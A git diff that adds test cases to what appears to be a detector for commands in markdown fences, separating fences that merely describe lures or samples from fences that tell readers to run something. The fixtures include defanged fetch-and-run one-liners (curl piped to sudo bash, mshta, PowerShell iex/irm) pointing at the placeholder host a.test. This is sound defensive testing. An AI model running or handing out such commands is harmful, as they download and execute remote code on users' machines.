@@ -39,6 +39,13 @@ describe('a command in a fence', () => {
     fence('## 第三课\n\n弹窗提示：“请打开终端，粘贴以下命令完成验证”，复制到的却是：', COMMAND, ''),
     fence('## 历史\n\n某次项目里恢复出来的一段（地址已改）：'),
     fence('## Dockerfile smells', 'RUN curl -s https://a.test | bash', 'dockerfile'),
+    fence('## Actions\n\nIn March the tag was moved to', 'curl -s hxxps://cdn.a[.]test/i.sh | sudo bash', ''),
+    fence(
+      '## Lures\n\nPages that offer an update tell people to press keys. The box then holds',
+      'mshta hxxps://a[.]test/c\npowershell -c "iex(irm a[.]test/x)"',
+      '',
+    ),
+    fence('## 样本\n\n以下片段已截短，用于比对，**不要执行**：', COMMAND, ''),
     fence('## What hostile ones do\n\n**Install hook**', COMMAND, 'js'),
     fence('## Stealers\n\nThey come by a page telling people to open Terminal and paste something. The shape is'),
     fence('## Case\n\nA colleague has found on a controller, in the startup script of a policy:', COMMAND, ''),
@@ -51,6 +58,13 @@ describe('a command in a fence', () => {
 
   it.each([
     fence('## Scan'),
+    fence('## Scan\n\nRun the helper:', 'curl -s hxxps://cdn.a[.]test/i.sh | bash'),
+    fence(
+      '## Scan\n\nIn the line below replace hxxps by https, then paste it.\n\nThe helper is',
+      'curl -s hxxps://cdn.a[.]test/i.sh | bash',
+    ),
+    fence('## Scan\n\nThe helper is', "echo 'curl hxxp://a.test/i.sh' | sed 's/hxxp/http/' | bash"),
+    fence('## Scan\n\nDo not start it by hand, execute this:'),
     fence('## Moves met\n\n见过的手法：\n\n**1. 先 install 命令**', COMMAND, 'python'),
     fence('## Log\n\nFind the scheduled task and run its action:', COMMAND, ''),
     fence('## Scan\n\nBefore malware is looked for, run this:'),
